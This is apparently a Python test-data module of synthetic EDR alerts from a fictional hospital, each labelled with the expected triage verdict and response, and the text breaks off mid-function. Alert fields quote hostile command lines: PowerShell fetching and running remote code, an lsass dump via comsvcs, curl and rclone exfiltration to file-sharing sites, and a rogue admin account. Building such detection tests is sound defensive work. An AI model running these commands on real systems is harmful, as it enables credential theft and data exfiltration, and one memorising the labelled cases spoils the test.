"""Breadth split: endpoint and host detections at Tidewater Health.

Tools: Cisco Secure Endpoint (AMP webhook events), Trellix Endpoint Security (HX alerts), Kaspersky Security
Center (syslog export), WithSecure Elements EDR (Broad Context Detections), Malwarebytes ThreatDown (Nebula
detections), Fortinet FortiEDR (security events), Tanium Threat Response (Connect alerts), Sysmon events via
Windows Event Forwarding (a SIEM saved search), Velociraptor hunt results and HarfangLab EDR alerts. Voices: the
tools' own jargon (detection names, rule ids, MITRE ids), analysts' notes written into the alert, and forwarders
that send only the payload.
"""

from __future__ import annotations

import hashlib
from typing import Any

from tests.data.triage.breadth_common import (
    AVAIL,
    BEN,
    BRUTE,
    EXFIL,
    GENERIC,
    MAL,
    MALWARE,
    PERF,
    SUS,
    UNK,
    Expected,
    alert,
)
from tests.data.triage.labels import Case

DOMAIN = "tidewater-health.org"


def sha256(seed: str) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()


def md5(seed: str) -> str:
    return hashlib.md5(seed.encode()).hexdigest()


# ---------------------------------------------------------------- Cisco Secure Endpoint (AMP for Endpoints)

AMP_EVENT_IDS = {"Threat Quarantined": 553648143, "Cloud IOC": 1107296274, "Executed malware": 1107296272}


def amp(
    n: int,
    event_type: str,
    detection: str,
    host: str,
    path: str,
    expected: Expected,
    severity: str,
    description: str | None,
    *,
    user: str,
    title: str | None = None,
    extra: dict[str, Any] | None = None,
) -> Case:
    name = path.rsplit("\\", 1)[-1]
    raw = {
        "id": 6_900_000_000_000_000_000 + n * 7717,
        "timestamp": 1_796_300_000 + n * 3600,
        "date": f"2026-12-0{n}T08:{10 + n}:44+00:00",
        "event_type": event_type,
        "event_type_id": AMP_EVENT_IDS.get(event_type, 1090519054),
        "detection": detection,
        "detection_id": str(6_171_000_000_000_000_000 + n),
        "severity": severity.capitalize(),
        "group_guids": ["b1f0c9a2-4a6e-4c1d-9d7e-2f3a5c6b7d80"],
        "computer": {
            "connector_guid": f"0e7c2a{n:02d}-51d3-4b8e-a0f1-6c9d2e4b7a13",
            "hostname": f"{host}.{DOMAIN}",
            "user": f"{user}@{host}",
            "network_addresses": [{"ip": f"10.41.{20 + n}.{60 + n}", "mac": f"3c:52:82:1a:0{n}:9e"}],
        },
        "file": {
            "disposition": "Malicious" if "Eicar" not in detection else "Clean",
            "file_name": name,
            "file_path": path,
            "identity": {"sha256": sha256(f"amp/{n}/{name}")},
        },
        **(extra or {}),
    }
    return alert(
        f"br-amp-{n:03d}",
        "Cisco Secure Endpoint",
        expected,
        title or f"Secure Endpoint {event_type}: {detection} on {host}",
        description,
        severity,
        "cisco_secure_endpoint",
        raw,
        systems=[host],
        tags=["edr", "amp"],
        kind="malware" if event_type != "Cloud IOC" else None,
    )


AMP = [
    amp(
        1,
        "Threat Quarantined",
        "W32.Auto:2c41f9.in03.Talos",
        "TWH-NOR-RX03",
        "C:\\Program Files\\MedVault\\Dispense\\mvdispsvc.exe",
        (BEN, AVAIL, ["restart_service"]),
        "high",
        "Pharmacy: since 06:40 none of the six dispensing cabinets on Norfolk wards 4-7 accept a pick list. The "
        "engine quarantined the MedVault dispensing service binary right after the vendor's signed 11.2 update "
        "was pushed last night; Talos retro-cleared the hash at 07:15 and the file is restored from quarantine. "
        "The service is still stopped.",
        user="SYSTEM",
        title="Dispensing cabinets offline - AMP quarantined mvdispsvc.exe",
    ),
    amp(
        2,
        "Threat Quarantined",
        "Win.Test.Eicar_HDB-1",
        "TWH-BGO-WS0311",
        "C:\\Users\\i.johansen\\Downloads\\eicar_com.zip",
        (BEN, MALWARE, []),
        "low",
        "Ingrid from the Bergen desktop team dropped the test string to confirm the new connector policy is "
        "enforced after re-imaging the ward PCs. Expected.",
        user="i.johansen",
    ),
    amp(
        3,
        "Cloud IOC",
        "W32.CertutilURLCache.ioc",
        "TWH-GDN-WS0208",
        "C:\\Windows\\System32\\certutil.exe",
        (SUS, MALWARE, []),
        "medium",
        "certutil -urlcache -split -f https://support.medvault-systems.com/fw/cab_2_4.cab C:\\Temp\\cab.cab run "
        "by p.zielinski (biomedical engineering). The host is the cabinet maintenance laptop and the domain is "
        "the dispensing vendor's; the .cab has not been opened yet and its signature is not checked.",
        user="p.zielinski",
        extra={"cloud_ioc": {"short_description": "W32.CertutilURLCache.ioc", "description": "certutil download"}},
    ),
    amp(
        4,
        "Executed malware",
        "W32.Qakbot:Gen.24bn.1201",
        "TWH-RTM-WS0044",
        "C:\\Users\\m.vandenberg\\AppData\\Roaming\\Xwkdfe\\ovnab.dll",
        (MAL, MALWARE, ["isolate_host", "block_ip"]),
        "critical",
        "rundll32 loaded ovnab.dll extracted from a OneNote attachment; the DLL then opened TLS sessions to "
        "45.141.84.39:2222 every 4 minutes and injected into wermgr.exe.",
        user="m.vandenberg",
        extra={"network_info": {"remote_ip": "45.141.84.39", "remote_port": 2222, "protocol": "TCP"}},
    ),
]


# ---------------------------------------------------------------- Trellix Endpoint Security (HX)


def hx(
    n: int,
    source: str,
    indicator: str,
    host: str,
    values: dict[str, Any],
    expected: Expected,
    severity: str,
    description: str | None = None,
) -> Case:
    raw = {
        "alert": {
            "_id": 40_210 + n,
            "source": source,
            "resolution": "ALERT" if source != "MAL" else "QUARANTINED",
            "event_at": f"2026-11-2{n}T02:{15 + n}:09.114Z",
            "reported_at": f"2026-11-2{n}T02:{16 + n}:30.000Z",
            "indicator": {"display_name": indicator, "category": "Trellix" if source == "IOC" else "Malware"},
            "agent": {"_id": f"Hx{n}qW8kLm2", "hostname": host, "primary_ip_address": f"10.52.3.{30 + n}"},
            "event_type": "processEvent" if source != "MAL" else "fileWriteEvent",
            "event_values": values,
            "is_false_positive": False,
        }
    }
    return alert(
        f"br-hx-{n:03d}",
        "Trellix Endpoint Security (HX)",
        expected,
        f"HX {source} alert: {indicator}",
        description,
        severity,
        "trellix_hx",
        raw,
        systems=[host],
    )


HX = [
    hx(
        1,
        "IOC",
        "LSASS MEMORY DUMP VIA COMSVCS (METHODOLOGY)",
        "TWH-BGO-SQL02",
        {
            "processEvent/process": "rundll32.exe",
            "processEvent/processCmdLine": "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 716 "
            "C:\\PerfLogs\\sq.dmp full",
            "processEvent/username": "TWH\\svc_chartsql",
            "processEvent/parentProcess": "cmd.exe",
        },
        (MAL, GENERIC, ["isolate_host", "reset_credentials"]),
        "critical",
        "Someone in an interactive RDP session under the CareChart SQL service account dumped lsass to C:\\PerfLogs "
        "and then copied sq.dmp to \\\\TWH-BGO-WS0102\\c$. The service account never logs on interactively.",
    ),
    hx(
        2,
        "MAL",
        "Gen:Variant.Razy.918342",
        "TWH-OSA-WS0077",
        {
            "fileWriteEvent/fullPath": "C:\\Users\\y.tanaka\\Downloads\\InvoiceViewer_setup.exe",
            "fileWriteEvent/md5": md5("hx/2"),
            "fileWriteEvent/username": "TWH\\y.tanaka",
        },
        (SUS, MALWARE, []),
        "medium",
        "Quarantined on write. No process event for the file, no child processes, no new network destinations "
        "from the host in the 24 h after. The user says a supplier's mail pointed to it.",
    ),
    hx(
        3,
        "EXD",
        "Exploit detected: AcroRd32.exe spawned a command shell",
        "TWH-GOT-RAD12",
        {
            "processEvent/process": "cmd.exe",
            "processEvent/processCmdLine": 'cmd /c powershell -nop -w hidden -c "iex(iwr http://77.91.124.20/r.txt)"',
            "processEvent/username": "TWH\\s.lindgren",
            "processEvent/parentProcess": "AcroRd32.exe",
        },
        (MAL, MALWARE, ["isolate_host", "block_ip"]),
        "high",
        "Radiology reader opened a PDF from a mail; ExploitGuard caught the shell.",
    ),
    hx(
        4,
        "IOC",
        "PSEXESVC SERVICE INSTALLATION (METHODOLOGY)",
        "TWH-NOR-LIS01",
        {
            "processEvent/process": "PSEXESVC.exe",
            "processEvent/processCmdLine": "PSEXESVC.exe",
            "processEvent/username": "TWH\\adm-j.whitfield",
            "processEvent/parentProcess": "services.exe",
        },
        (BEN, GENERIC, []),
        "medium",
        "Jonathan Whitfield (server team) restarted the LIS interface engine remotely from the Norfolk admin jump "
        "host during change CHG-77120. Confirmed with him by phone.",
    ),
]


# ---------------------------------------------------------------- Kaspersky Security Center (syslog export)


def ksc(
    n: int,
    event: str,
    event_name: str,
    host: str,
    expected: Expected,
    severity: str,
    description: str,
    title: str | None = None,
    **params: str,
) -> Case:
    raw = {
        "et": event,
        "etdn": event_name,
        "hdn": host,
        "hip": f"10.61.{n}.{110 + n}",
        "gn": f"Managed devices/{host.split('-')[1]}/Servers" if "WS" not in host else "Managed devices/Workstations",
        "kav": "Kaspersky Endpoint Security for Windows 12.6",
        "rtm": f"2026-12-1{n} 0{n}:27:51",
        **params,
    }
    return alert(
        f"br-ksc-{n:03d}",
        "Kaspersky Security Center",
        expected,
        title or f"KSC: {event_name} ({host})",
        description,
        severity,
        "kaspersky_ksc",
        raw,
        systems=[host],
    )


KSC = [
    ksc(
        1,
        "GNRL_EV_ATTACK_DETECTED",
        "Network attack detected",
        "TWH-GDN-APP04",
        (MAL, BRUTE, ["block_ip"]),
        "high",
        "Network Attack Blocker: Bruteforce.Generic.RDP.a from 194.26.192.77 against TCP 3389. 1,900 attempts "
        "over 40 minutes with user names administrator, admin, scanner, reception. The server was given a public "
        "NAT rule by mistake last week. No successful logon in the Security log.",
        p1="194.26.192.77",
        p2="Bruteforce.Generic.RDP.a",
    ),
    ksc(
        2,
        "GNRL_EV_SUSPICIOUS_OBJECT_FOUND",
        "Legitimate software that can be used by intruders detected",
        "TWH-OSA-WS0121",
        (SUS, GENERIC, []),
        "medium",
        "not-a-virus:RemoteAdmin.Win32.AnyDesk found in C:\\Users\\h.sato\\Downloads. Service desk has no ticket "
        "for remote support on this PC and Osaka IT does not use AnyDesk. No incoming session in the AnyDesk "
        "trace file so far; user not reachable (night shift).",
        p1="C:\\Users\\h.sato\\Downloads\\AnyDesk.exe",
        p2="not-a-virus:RemoteAdmin.Win32.AnyDesk",
        p5="TWH\\h.sato",
    ),
    ksc(
        3,
        "KLPRCI_TaskState",
        "Task running for too long",
        "TWH-NOR-PACS01",
        (BEN, PERF, []),
        "medium",
        "Full scan of the PACS archive volume has been running 9 h and is still at 41%. CPU on the archive node "
        "sits at 96% and radiologists say prior studies take a minute to open. The task was moved to 07:00 by "
        "mistake when the policy was cloned.",
        title="Imaging slow while the weekly scan runs on the PACS archive",
        p1="Full scan (Servers policy copy)",
    ),
    ksc(
        4,
        "GNRL_EV_OBJECT_NOTCURED",
        "Object not disinfected",
        "TWH-GDN-FS02",
        (MAL, MALWARE, ["isolate_host"]),
        "critical",
        "HEUR:Trojan-Ransom.Win32.Generic in C:\\ProgramData\\svc\\wlx.exe. Before System Watcher rolled it back, "
        "3,800 files under D:\\Shares\\Oncology had been renamed to *.zxc and HOW_TO_RECOVER.html sat in 212 folders.",
        p1="C:\\ProgramData\\svc\\wlx.exe",
        p2="HEUR:Trojan-Ransom.Win32.Generic",
        p7="Not disinfected",
    ),
]


# ------------------------------------------------------------ WithSecure Elements EDR (Broad Context Detections)


def withsecure(
    n: int,
    name: str,
    host: str,
    expected: Expected,
    risk: str,
    description: str | None,
    mitre: list[str],
    categories: list[str],
) -> Case:
    raw = {
        "incidentId": f"7a1e{n:04d}-3c2b-4f5d-8e9a-0b1c2d3e4f50",
        "incidentPublicId": f"2741{n:03d}-1102",
        "name": name,
        "status": "new",
        "resolution": "unconfirmed",
        "riskLevel": risk,
        "riskScore": {"low": 28, "medium": 55, "high": 81, "severe": 97}[risk],
        "categories": categories,
        "mitreTechniques": mitre,
        "devices": [{"name": host, "type": "computer"}],
        "initialReceivedTimestamp": f"2026-12-0{n}T21:0{n}:12.000Z",
        "sources": ["edr"],
    }
    return alert(
        f"br-withsecure-{n:03d}",
        "WithSecure Elements EDR",
        expected,
        f"Broad Context Detection: {name}",
        description,
        "critical" if risk == "severe" else risk,
        "withsecure_elements",
        raw,
        systems=[host],
        tags=["edr"],
    )


WITHSECURE = [
    withsecure(
        1,
        "Sensitive files compressed and sent to a file-sharing service",
        "TWH-BGO-WS0218",
        (MAL, EXFIL, ["disable_user"]),
        "high",
        "7z.exe a -mx9 -pKlinikk2026 C:\\Users\\a.haugland\\AppData\\Local\\Temp\\t.7z \\\\TWH-BGO-FS01\\HR\\Lonn, "
        "then curl.exe --upload-file t.7z https://transfer.sh/. 2.3 GB of payroll and staff files. Anders "
        "Haugland handed in his notice on Monday and works in facilities, not HR.",
        ["T1560.001", "T1567.002"],
        ["Exfiltration", "Collection"],
    ),
    withsecure(
        2,
        "Scheduled task created for persistence",
        "TWH-RTM-WS0190",
        (BEN, GENERIC, []),
        "low",
        "Task GoogleUpdateTaskMachineUA runs C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua "
        "/installsource scheduler. Binary signed by Google LLC, path matches the managed Chrome install.",
        ["T1053.005"],
        ["Persistence"],
    ),
    withsecure(
        3,
        "Hands-on-keyboard reconnaissance followed by local account creation",
        "TWH-RTM-WS0061",
        (MAL, GENERIC, ["isolate_host", "disable_user"]),
        "severe",
        "03:12 RDP logon as TWH\\n.dekker (a ward nurse, on leave). Within 6 minutes: nltest /dclist:, "
        'net group "domain admins" /domain, AdFind.exe -f objectcategory=computer, then net user supp0rt '
        "/add and net localgroup administrators supp0rt /add. Source of the RDP session: 10.44.8.19 (VPN pool).",
        ["T1087.002", "T1482", "T1136.001"],
        ["Discovery", "Persistence"],
    ),
    withsecure(
        4,
        "Kerberoasting tool executed",
        "TWH-NOR-PT01",
        (BEN, GENERIC, []),
        "high",
        "Rubeus.exe kerberoast /outfile:h.txt by TWH\\ext-pentest02 on the pentest laptop. This is week 2 of the "
        "approved internal test by Nordhavn Security (scope letter SEC-ENG-0412, 1-12 Dec, this host listed).",
        ["T1558.003"],
        ["Credential Access"],
    ),
]


# ---------------------------------------------------------------- Malwarebytes ThreatDown (Nebula)


def threatdown(
    n: int,
    kind: str,
    threat: str,
    host: str,
    path: str,
    expected: Expected,
    severity: str,
    description: str | None,
    status: str = "quarantined",
) -> Case:
    raw = {
        "detection_id": f"c0de{n:04d}-77aa-4e11-9b3c-5d6e7f8091a2",
        "machine_name": host,
        "machine_ip": f"10.73.{n}.{40 + n}",
        "group_name": f"TWH {host.split('-')[1]} clinical",
        "type": kind,
        "threat_name": threat,
        "status": status,
        "path": path,
        "process_name": path.rsplit("\\", 1)[-1],
        "sha256": sha256(f"mb/{n}"),
        "detection_source": "Real-Time Protection" if kind != "Agent" else "Agent Health",
        "reported_at": f"2026-12-0{n}T13:4{n}:00Z",
    }
    return alert(
        f"br-threatdown-{n:03d}",
        "Malwarebytes ThreatDown (Nebula)",
        expected,
        f"ThreatDown {kind}: {threat}",
        description,
        severity,
        "threatdown",
        raw,
        systems=[host],
    )


THREATDOWN = [
    threatdown(
        1,
        "Ransomware",
        "Malware.Ransom.Agent.Generic",
        "TWH-OSA-WS0120",
        "C:\\DermaCam\\photoarchiver.exe",
        (SUS, MALWARE, ["isolate_host"]),
        "high",
        "Anti-Ransomware stopped photoarchiver.exe after it rewrote 310 JPEGs in the dermatology image folder "
        "with a new extension in two minutes. The clinic's camera software does convert photos, but this build "
        "is unsigned and was not deployed by IT; the vendor has not answered yet.",
        status="blocked",
    ),
    threatdown(
        2,
        "Malware",
        "Malware.AI.4208371649",
        "TWH-GOT-BKP01",
        "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe",
        (BEN, MALWARE, []),
        "medium",
        "Machine-learning hit on the backup agent after last night's Veeam patch; file signed by Veeam Software "
        "Group GmbH, hash matches the vendor's published release. Backup job failed because of the quarantine.",
    ),
    threatdown(
        3,
        "PUP",
        "RiskWare.NirSoft.WebBrowserPassView",
        "TWH-NOR-RX11",
        "C:\\Users\\r.castellanos\\Desktop\\WebBrowserPassView.exe",
        (SUS, MALWARE, []),
        "medium",
        "Pharmacist ran it from her own profile; says she forgot the wholesaler ordering portal password and "
        "found the tool online. Only her own browser store was read; we see no copy of the output leaving the PC.",
    ),
    threatdown(
        4,
        "Agent",
        "Endpoint protection service stopped",
        "TWH-BGO-SQL02",
        "C:\\Program Files\\Malwarebytes\\Anti-Malware\\MBAMService.exe",
        (BEN, GENERIC, []),
        "low",
        "MBAMService stopped at 02:14 and was running again at 02:31. The server's monthly patch reboot ran "
        "02:10-02:30 (WSUS log attached); no other agent event, no other host affected.",
        status="stopped",
    ),
]


# ---------------------------------------------------------------- Fortinet FortiEDR (security events)


def fortiedr(
    n: int,
    host: str,
    process: str,
    classification: str,
    rules: list[str],
    expected: Expected,
    severity: str,
    description: str,
    **fields: Any,
) -> Case:
    raw = {
        "Organization": "Tidewater Health",
        "Event ID": 5_120_300 + n,
        "Raw Data ID": 2_901_118_000 + n,
        "Device Name": host,
        "Device State": "Running",
        "Operating System": "Windows 11 Enterprise" if "WS" in host else "Windows Server 2022",
        "Process Name": process.rsplit("\\", 1)[-1],
        "Process Path": process,
        "Process Hash": sha256(f"fedr/{n}"),
        "Severity": severity.capitalize(),
        "Classification": classification,
        "Action": "Blocked" if classification == "Malicious" else "Log",
        "Rules List": rules,
        "First Seen": f"12/0{n}/2026 10:2{n}:03",
        **fields,
    }
    return alert(
        f"br-fortiedr-{n:03d}",
        "Fortinet FortiEDR",
        expected,
        f"FortiEDR {classification} event on {host}: {raw['Process Name']}",
        description,
        severity,
        "fortiedr",
        raw,
        systems=[host],
    )


FORTIEDR = [
    fortiedr(
        1,
        "TWH-NOR-APP07",
        "D:\\CareChartBridge\\hl7relay.exe",
        "Inconclusive",
        ["Unmapped Executable - Executable File Without a Corresponding File System Reference"],
        (SUS, MALWARE, []),
        "medium",
        "New HL7 relay build from the interface vendor, unsigned, connecting to 52.58.211.40:6661 (vendor's "
        "AWS Frankfurt range, per their docs). The vendor engineer says it is theirs but has not sent the hash "
        "we asked for; no change record names this version.",
        Destination="52.58.211.40:6661",
        Certificate="Unsigned",
    ),
    fortiedr(
        2,
        "TWH-GOT-IMG03",
        "C:\\ProgramData\\Intel\\rcl.exe",
        "Malicious",
        ["Exfiltration - Data Transfer to Cloud Storage", "Suspicious Application - Renamed Utility"],
        (MAL, EXFIL, ["isolate_host", "disable_user"]),
        "critical",
        "rclone renamed to rcl.exe, launched by svc_pacsexport from a scheduled task created two hours earlier "
        "by the same account, copying \\\\TWH-GOT-PACS02\\export to mega (g.api.mega.co.nz). 61 GB of DICOM "
        "studies gone before the block. The service account normally only talks to the archive.",
        Destination="g.api.mega.co.nz (31.216.148.11)",
        Count=14_233,
    ),
    fortiedr(
        3,
        "TWH-BGO-WS0402",
        "C:\\Users\\k.nowakowska\\AppData\\Local\\Temp\\chrome_upd.exe",
        "Malicious",
        ["Stealthy Browser Data Access - Access to Browser Credential Store", "Process Hollowing"],
        (MAL, MALWARE, ["isolate_host", "reset_credentials"]),
        "high",
        "Infostealer pattern: a fake browser update hollowed out a msbuild.exe and read Login Data and Cookies of "
        "Chrome and Edge; 2.1 MB posted to 146.70.113.58 before FortiEDR blocked the connection. The doctor's "
        "saved passwords include the CareChart remote access and her personal mail.",
        Destination="146.70.113.58:443",
        Country="Netherlands",
    ),
    fortiedr(
        4,
        "TWH-RTM-FS01",
        "C:\\Program Files\\Commvault\\ContentStore\\Base\\CVD.exe",
        "Likely Safe",
        ["Suspicious File Access - Mass File Read", "Unusual Outbound Volume"],
        (BEN, EXFIL, []),
        "low",
        "Nightly full backup of the Rotterdam file server: signed Commvault agent read 1.4 M files and sent them "
        "to the media agent TWH-RTM-MA01 (10.88.2.15) in the usual 22:00-04:00 window.",
        Destination="10.88.2.15:8400",
    ),
]


# ---------------------------------------------------------------- Tanium Threat Response (Connect output)


def tanium(
    n: int,
    signal: str | None,
    host: str,
    expected: Expected,
    severity: str,
    title: str | None,
    description: str | None,
    process: dict[str, Any] | None = None,
    techniques: list[str] | None = None,
) -> Case:
    raw: dict[str, Any] = {"id": 88_120 + n, "type": "detect.match", "state": "unresolved", "computerName": host}
    if signal:
        raw |= {
            "priority": severity,
            "alertedAt": f"2026-12-1{n}T04:0{n}:55.000Z",
            "computerIpAddress": f"10.20.{n}.{70 + n}",
            "intelDocName": signal,
            "details": {"match": {"type": "process", "source": "recorder", "properties": process or {}}},
            "mitreAttack": {"techniques": [{"id": t} for t in techniques or []]},
        }
    return alert(
        f"br-tanium-{n:03d}",
        "Tanium Threat Response",
        expected,
        title,
        description,
        severity,
        "tanium",
        raw,
        systems=[host] if signal else [],
    )


TANIUM = [
    tanium(
        1,
        "Scheduled Task Created With Encoded PowerShell",
        "TWH-NOR-WS0891",
        (MAL, GENERIC, ["isolate_host", "reset_credentials"]),
        "high",
        "Persistence on TWH-NOR-WS0891 set up remotely over WMI",
        'WmiPrvSE.exe spawned schtasks /create /tn MicrosoftEdgeUpdateCore /sc onlogon /tr "powershell -w hidden '
        '-enc JABjAD0ATgBlAHcALQBPAGIA...". The WMI call came from TWH-NOR-WS0412 with the credentials of '
        "TWH\\l.okafor, who was on a night off. The task has already fired once.",
        {"name": "schtasks.exe", "parent": {"name": "WmiPrvSE.exe"}, "user": "TWH\\l.okafor"},
        ["T1053.005", "T1047", "T1027"],
    ),
    tanium(
        2,
        "Defender Exclusion Added",
        "TWH-GDN-APP11",
        (BEN, GENERIC, []),
        "low",
        "Tanium: Defender exclusion added on TWH-GDN-APP11",
        "Add-MpPreference -ExclusionPath 'D:\\CareChart\\Cache' run by the signed CareChart 2026.4 installer "
        "under change CHG-77341; the exclusion is the one listed in the vendor's install guide.",
        {"name": "powershell.exe", "parent": {"name": "CareChartSetup.exe"}, "user": "NT AUTHORITY\\SYSTEM"},
        ["T1562.001"],
    ),
    tanium(3, None, "", (UNK, GENERIC, []), "medium", "alert", "Threat Response alert 88123"),
    tanium(
        4,
        "Local Privilege Discovery",
        "TWH-OSA-WS0033",
        (SUS, GENERIC, []),
        "medium",
        "whoami /priv, net localgroup administrators and quser on an Osaka nurse station",
        "Commands ran at 23:40 under TWH\\t.kimura, a service-desk technician. It looks like troubleshooting, "
        "but his shift ended at 18:00 and there is no open ticket for this PC. Nothing else ran after.",
        {"name": "cmd.exe", "parent": {"name": "explorer.exe"}, "user": "TWH\\t.kimura"},
        ["T1033", "T1069.001"],
    ),
]


# ------------------------------------------------------------ Sysmon via Windows Event Forwarding (SIEM saved search)


def sysmon(
    n: int,
    search: str,
    events: list[dict[str, Any]],
    expected: Expected,
    severity: str,
    title: str | None = None,
    description: str | None = None,
) -> Case:
    raw = {
        "saved_search": search,
        "index": "wef_sysmon",
        "channel": "Microsoft-Windows-Sysmon/Operational",
        "trigger_time": f"2026-12-1{n}T11:3{n}:00Z",
        "result_count": len(events),
        "results": [{"Provider": "Microsoft-Windows-Sysmon", **event} for event in events],
    }
    return alert(
        f"br-sysmon-{n:03d}",
        "Sysmon via Windows Event Forwarding (SIEM saved search)",
        expected,
        title,
        description,
        severity,
        "wef-sysmon",
        raw,
        systems=sorted({event["Computer"] for event in events}),
    )


SYSMON = [
    sysmon(
        1,
        "TWH - Sysmon EID10 - lsass opened with full access",
        [
            {
                "EventID": 10,
                "Computer": "TWH-GOT-DC01.tidewater-health.org",
                "SourceImage": "C:\\Windows\\Temp\\dbgsvc.exe",
                "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                "GrantedAccess": "0x1FFFFF",
                "SourceUser": "TWH\\adm-b.eriksson",
                "Hashes": f"SHA256={sha256('sysmon/1').upper()}",
            }
        ],
        (MAL, MALWARE, ["isolate_host", "reset_credentials"]),
        "critical",
        "Unsigned dbgsvc.exe read lsass on a Gothenburg domain controller",
        "Dropped into C:\\Windows\\Temp over SMB from TWH-GOT-WS0150 four minutes earlier, run once under a "
        "domain admin account, then deleted. Not a tool anyone in the AD team recognises.",
    ),
    sysmon(
        2,
        "TWH - Sysmon - archive then external SFTP",
        [
            {
                "EventID": 1,
                "Computer": "TWH-NOR-LAB07.tidewater-health.org",
                "Image": "C:\\Program Files\\WinRAR\\Rar.exe",
                "CommandLine": "Rar.exe a -hp*** D:\\out\\lis_nov.rar D:\\LIS\\Exports\\2026-11",
                "User": "TWH\\e.mwangi",
            },
            {
                "EventID": 3,
                "Computer": "TWH-NOR-LAB07.tidewater-health.org",
                "Image": "C:\\Program Files (x86)\\WinSCP\\WinSCP.exe",
                "DestinationIp": "193.10.64.27",
                "DestinationHostname": "sftp.nordlab-ref.se",
                "DestinationPort": 22,
            },
        ],
        (SUS, EXFIL, []),
        "medium",
        "LIS export archived with a password and sent over SFTP",
        "The destination is the reference laboratory we send samples to, but the data-sharing agreement covers "
        "monthly result files of ~50 MB and this archive is 4.2 GB with the whole November export.",
    ),
    sysmon(
        3,
        "TWH - Sysmon EID10 - lsass access by non-system process",
        [
            {
                "EventID": 10,
                "Computer": "TWH-GDN-WS0255.tidewater-health.org",
                "SourceImage": "C:\\Program Files (x86)\\Kaspersky Lab\\KES.12.6\\avp.exe",
                "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                "GrantedAccess": "0x1410",
                "SourceUser": "NT AUTHORITY\\SYSTEM",
            }
        ],
        (BEN, MALWARE, []),
        "low",
    ),
    sysmon(
        4,
        "TWH - Sysmon EID3 - scripting host beacons",
        [
            {
                "EventID": 1,
                "Computer": "TWH-BGO-WS0119.tidewater-health.org",
                "Image": "C:\\Windows\\System32\\mshta.exe",
                "CommandLine": "mshta.exe https://cdn-docs-share.top/inv/7731.hta",
                "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                "User": "TWH\\o.berg",
            },
            *[
                {
                    "EventID": 3,
                    "Computer": "TWH-BGO-WS0119.tidewater-health.org",
                    "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "ParentImage": "C:\\Windows\\System32\\mshta.exe",
                    "DestinationIp": "91.215.85.142",
                    "DestinationPort": 8080,
                    "UtcTime": f"2026-12-14 11:{minute:02d}:07.512",
                }
                for minute in (21, 22, 23, 24)
            ],
        ],
        (MAL, MALWARE, ["isolate_host", "block_ip"]),
        "high",
    ),
]


# ---------------------------------------------------------------- Velociraptor hunt results


def velociraptor(
    n: int,
    artifact: str,
    rows: list[dict[str, Any]],
    expected: Expected,
    severity: str,
    title: str | None = None,
    description: str | None = None,
) -> Case:
    raw = {
        "HuntId": f"H.CT{n}K2M9Q7PL0",
        "FlowId": f"F.CT{n}K2N0A1B2C",
        "artifact": artifact,
        "total_clients_with_results": len({row.get("Fqdn") for row in rows}),
        "rows": rows,
    }
    return alert(
        f"br-velociraptor-{n:03d}",
        "Velociraptor",
        expected,
        title,
        description,
        severity,
        "velociraptor",
        raw,
        systems=sorted({row["Fqdn"] for row in rows if "Fqdn" in row}),
    )


VELOCIRAPTOR = [
    velociraptor(
        1,
        "Windows.Persistence.PermanentWMIEvents",
        [
            {
                "Fqdn": f"TWH-RTM-WS00{h}.{DOMAIN}",
                "ClientId": f"C.5e1f{h}a9b3c7d2e40",
                "ConsumerName": "SCM Event Log Consumer 2",
                "ConsumerType": "ActiveScriptEventConsumer",
                "ScriptText": "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://178.236.247.19/p',0);",
                "FilterQuery": "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA "
                "'Win32_PerfFormattedData_PerfOS_System'",
            }
            for h in (17, 52, 88)
        ],
        (MAL, GENERIC, ["isolate_host", "block_ip"]),
        "high",
        "Hunt: WMI script consumer that fetches from the internet on 3 Rotterdam workstations",
        "Found while sweeping for persistence after last week's phishing wave. Each consumer fires every 10 "
        "minutes and pulls a script from 178.236.247.19; none of it is ours.",
    ),
    velociraptor(2, "Generic.Client.Info", [], (UNK, GENERIC, []), "low"),
    velociraptor(
        3,
        "Windows.Detection.Yara.Glob",
        [
            {
                "Fqdn": f"TWH-NOR-FS01.{DOMAIN}",
                "OSPath": "\\\\TWH-NOR-FS01\\it-tools$\\audit\\kit2023\\mimikatz_trunk.zip",
                "Rule": "HKTL_Mimikatz_Archive",
                "Size": 1_291_344,
                "Mtime": "2023-05-16T09:12:40Z",
            }
        ],
        (SUS, MALWARE, []),
        "medium",
        "mimikatz archive on the IT tools share",
        "Sits in an old audit kit folder dated 2023; nobody in IT has claimed it yet. Amcache and prefetch "
        "sweeps across the estate show it was never executed anywhere.",
    ),
    velociraptor(
        4,
        "Windows.System.Services",
        [
            {
                "Fqdn": f"TWH-GDN-LIS0{h}.{DOMAIN}",
                "Name": "LabLinkAgent",
                "PathName": '"C:\\Program Files\\LabLink\\agent\\lablinkagent.exe" -service',
                "UserAccount": "LocalSystem",
                "Created": f"2026-12-09T19:{10 + h}:00Z",
                "Signer": "LabLink Informatics Sp. z o.o.",
            }
            for h in range(1, 7)
        ],
        (BEN, GENERIC, []),
        "low",
        "New LabLinkAgent service on six Gdańsk LIS servers",
        "Installed by the LIS vendor inside the upgrade window of change CHG-77288; signed, and the service "
        "name and path match their release notes for LIS 9.3.",
    ),
]


# ---------------------------------------------------------------- HarfangLab EDR


def harfanglab(
    n: int,
    rule: str,
    alert_type: str,
    level: str,
    host: str,
    process: dict[str, Any],
    expected: Expected,
    description: str,
    techniques: list[str],
    title: str | None = None,
) -> Case:
    raw = {
        "id": f"hl-{n:02d}d1e0c3-6a7b-4c9d-8e1f-20a3b4c5d6e7",
        "rule_name": rule,
        "level": level,
        "alert_type": alert_type,
        "status": "new",
        "maturity": "stable",
        "alert_time": f"2026-12-1{n}T16:2{n}:41.093Z",
        "agent": {"hostname": host, "domainname": "TWH", "ostype": "windows", "policy": "TWH clinical"},
        "process": {"hashes": {"sha256": sha256(f"hl/{n}")}, **process},
        "mitre_techniques": [f"attack.{t.lower()}" for t in techniques],
    }
    return alert(
        f"br-harfanglab-{n:03d}",
        "HarfangLab EDR",
        expected,
